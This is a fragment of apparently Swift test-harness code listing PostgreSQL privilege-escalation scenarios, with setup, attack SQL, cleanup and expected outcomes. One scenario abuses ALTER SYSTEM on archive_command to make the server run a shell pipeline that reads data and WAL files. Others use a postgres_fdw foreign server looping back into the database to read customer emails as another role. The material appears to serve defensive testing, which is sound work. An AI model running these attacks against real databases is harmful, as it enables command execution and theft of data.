            capability: "server_files", cause: "pg_execute_server_program"),
        CapabilityRoad(
            name: "ALTER SYSTEM on archive_command (PostgreSQL 15+): the server runs the insider's command at the next reload",
            setup: "GRANT ALTER SYSTEM ON PARAMETER archive_command TO mallory;",
            attack: """
                LISTEN loot;
                ALTER SYSTEM SET archive_command = 'grep -a -o -h "cn7road[0-9]*z" base/*/* pg_wal/0* | head -n 1 | xargs -I@ {superuser} -c "NOTIFY loot, ''@''"; true';
                \\! {reload}
                SELECT 'delivered';
                """,
            capability: "alter_system", cause: "ALTER SYSTEM on archive_command granted to mallory",
            cleanup: ["ALTER SYSTEM RESET archive_command", "SELECT pg_catalog.pg_reload_conf()"]),
        foreignServerBack(mappedFor: "PUBLIC", works: true),
        foreignServerBack(mappedFor: "mallory", works: true),
        foreignServerBack(mappedFor: "carol", works: false),
    ]

    /// A postgres_fdw server pointing back at this database (as reporting tools set up), USAGE
    /// granted to mallory, a user mapping to `reporting` for `mappedFor`: mallory opens a session
    /// as reporting through a foreign table of her own in pg_temp. A mapping for someone else
    /// gives her nothing (PostgreSQL uses the current role's mapping or PUBLIC's). The 16 wheel
    /// ships no postgres_fdw.
    static func foreignServerBack(mappedFor: String, works: Bool) -> CapabilityRoad {
        CapabilityRoad(
            name: "foreign server back into this database, user mapping for \(mappedFor)",
            majors: [15, 17, 18],
            setup: """
                CREATE EXTENSION postgres_fdw;
                CREATE ROLE reporting LOGIN;
                CREATE ROLE carol LOGIN;
                GRANT SELECT ON public.customers TO reporting;
                CREATE SERVER back_office FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{socket}', port '{port}', dbname '{database}');
                CREATE USER MAPPING FOR \(mappedFor) SERVER back_office OPTIONS (user 'reporting', password_required 'false');
                GRANT USAGE ON FOREIGN SERVER back_office TO mallory;
                """,
            attack: """
                CREATE FOREIGN TABLE pg_temp.customers_again (id int, email text) SERVER back_office OPTIONS (schema_name 'public', table_name 'customers');
                SELECT email FROM pg_temp.customers_again;
                """,
            capability: "foreign_server", cause: works ? "GRANT SELECT ON public.customers TO reporting" : nil, expectAttackWorks: works)
    }
}
